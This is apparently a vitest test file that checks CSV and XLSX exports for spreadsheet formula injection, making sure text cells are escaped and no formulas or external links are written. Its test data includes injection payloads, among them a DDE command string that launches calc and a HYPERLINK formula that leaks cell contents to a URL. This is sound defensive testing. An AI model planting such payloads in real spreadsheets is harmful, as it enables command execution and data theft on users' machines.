import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { readXlsx } from 'hucre/xlsx';
import { fromBufferPromise } from 'yauzl';
import type { Value } from '#lib/indicators/value.ts';
import type { Reading } from '../ingest/delivery.ts';
import { contract, field } from '../ingest/reading-fixture.ts';
import type { ValuesResult } from '../values/values-query.ts';
import { rejectsToCsv } from './rejects-csv.ts';
import type { RejectsTable } from './rejects-table.ts';
import { rejectsToXlsx } from './rejects-xlsx.ts';
import { valuesToCsv } from './values-csv.ts';

/** What a spreadsheet would run, or take for something else than the text it is. */
const runnable = [
	'=1+1',
	"=cmd|'/c calc'!A0",
	'=HYPERLINK("https://example.org/?"&A1,"x")',
	'+33 6 12 34 56 78',
	'+1+1',
	'-1+1',
	'-cmd',
	'-2 ou 3',
	'@SUM(A1)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'＝1+1',
	'＋1',
	'－1+1',
	'＠SUM(A1)'
];
const numbers = ['-3', '-3,5', '-1 234,50', '-12 %', '0', '12'];
const opensFormula = /^[=+@\t\r\n＝＋－＠]|^-(?![\d\s.,\u00a0\u202f]+%?\s*$)/;

const reading = (columns: readonly string[]): Reading => ({
	dataset: 'tried',
	sha256: 'a'.repeat(64),
	name: '=1+1.csv',
	bytes: 1,
	understanding: {
		format: 'csv',
		encoding: 'utf-8',
		delimiter: ';',
		quote: '"',
		sheet: '=1+1',
		headerRow: 1,
		decimal: ',',
		dateOrder: 'DMY',
		columns,
		notes: []
	},
	rows: { read: 1, accepted: 0, rejected: 1, blank: 0 },
	deliveredOn: null,
	covers: null,
	part: null,
	rejects: null,
	refused: null
});

const fields = contract([field('amount', { title: 'Montant', type: 'number' })]).fields;

/** Every runnable text as a header, as a reason and as a cell; numbers in a column of numbers. */
function table(): RejectsTable {
	const headers = [...runnable, 'Montant'];
	return {
		reading: reading(headers),
		mark: { delivery: '=1+1', deliveredOn: null, decimal: ',', dateOrder: null, name: '=1+1.csv' },
		columns: headers.map((header) => ({ header, field: header === 'Montant' ? fields[0]! : null })),
		rows: numbers.map((number, at) => ({
			line: at + 2,
			reason: runnable[at]!,
			cells: [...runnable, number],
			wrong: at === 0 ? 0 : null
		}))
	};
}

describe('formula cells on export, headers too', () => {
	test('refused rows as CSV: each text has an apostrophe before it', () => {
		const rows = parse(rejectsToCsv(table()), { bom: true, delimiter: ';' });
		expect(rows).toHaveLength(numbers.length + 1);
		for (const cells of rows) expect(cells.filter((cell) => opensFormula.test(cell))).toEqual([]);
		expect(rows[0]!.slice(3, -1)).toEqual(runnable.map((text) => `'${text}`));
		expect(rows[1]!.slice(3, -1)).toEqual(runnable.map((text) => `'${text}`));
		expect(rows[1]![1]).toBe("'=1+1");
	});

	test('real negative numbers stay numbers', () => {
		const rows = parse(rejectsToCsv(table()), { bom: true, delimiter: ';' });
		expect(rows.slice(1).map((cells) => cells.at(-1))).toEqual(numbers);
	});

	test.each(['open', 'office'] as const)(
		'figures as CSV, %s: names of dimensions and their values',
		(style) => {
			for (const text of runnable) {
				const value: Value = {
					indicator: text,
					from: '2019-01-01',
					to: '2019-12-20',
					territory: text,
					dimensions: { [text]: text },
					value: -3.5,
					missing: null,
					partial: true,
					numerator: null,
					denominator: null,
					units: 1,
					baseline: null,
					target: null,
					planned: null,
					progress: null,
					status: null,
					projection: null,
					plan: null,
					declared: {
						value: -2,
						on: '2019-12-20',
						source: text,
						author: text,
						declaredOn: '2019-12-20',
						stands: true
					}
				};
				const result: ValuesResult = {
					version: 1,
					edition: 'e',
					asOf: '2019-12-20',
					values: [value]
				};
				const rows = parse(valuesToCsv(result, { style, language: 'fr' }), {
					bom: true,
					delimiter: style === 'open' ? ',' : ';'
				});
				for (const cells of rows)
					expect(cells.filter((cell) => opensFormula.test(cell))).toEqual([]);
				expect(rows[1]).toContain(style === 'open' ? '-3.5' : '-3,5');
				expect(rows[1]).toContain(`'${text}`);
			}
		}
	);
});

describe('XLSX strings never as formulas', () => {
	test('refused rows as a workbook hold texts and numbers alone', async () => {
		const bytes = await rejectsToXlsx(table(), 'fr');
		const zip = await fromBufferPromise(Buffer.from(bytes), { lazyEntries: true });
		const names: string[] = [];
		for await (const entry of zip.eachEntry()) {
			names.push(entry.fileName);
			const stream = await zip.openReadStreamPromise(entry);
			const text = Buffer.concat(await Array.fromAsync(stream as AsyncIterable<Buffer>)).toString();
			if (/worksheets\/sheet/.test(entry.fileName)) {
				expect(text).toContain('<c r=');
				expect(text).not.toMatch(/<f[\s>]|t="str"/);
			}
			expect(text).not.toMatch(/TargetMode="External"|<hyperlink|ddeLink|oleLink/i);
		}
		expect(
			names.filter((name) => /externalLink|vbaProject|connections|\.bin$/i.test(name))
		).toEqual([]);
	});

	test('the texts come back as they were, and the numbers as numbers', async () => {
		const { sheets } = await readXlsx(await rejectsToXlsx(table(), 'fr'));
		const [headers, first, second] = sheets[0]!.rows;
		const plain = (text: unknown) => String(text).replace(/\r/g, '\n').trim();
		expect(headers!.slice(3, -1).map(plain)).toEqual(runnable.map(plain));
		expect(first!.slice(3, -1).map(plain)).toEqual(runnable.map(plain));
		expect(first!.at(-1)).toBe(-3);
		expect(second!.at(-1)).toBe(-3.5);
	});
});
